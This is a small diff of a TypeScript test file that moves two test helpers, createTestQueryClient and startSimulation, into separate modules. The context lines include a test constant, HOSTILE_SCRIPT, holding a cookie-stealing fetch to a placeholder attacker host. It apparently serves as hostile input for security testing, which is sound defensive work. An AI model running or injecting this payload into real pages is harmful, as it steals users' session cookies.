@@ -16,7 +16,8 @@ import { savedListsQuery } from '@/lib/queries/lists';
 import { buildSnapshot, parseSnapshot, type Snapshot } from '@/lib/query/snapshot';
 import { sessionQueries } from '@/lib/session/api';
 import { world } from '@/mocks/world/store';
-import { createTestQueryClient, startSimulation } from './campaignKit';
+import { createTestQueryClient } from './renderRoute';
+import { startSimulation } from './simulation';
 
 const HOSTILE_SEARCH = 'Zebulon Quartermaine';
 const HOSTILE_SCRIPT = 'fetch("https://evil.example/steal?c=" + document.cookie)';
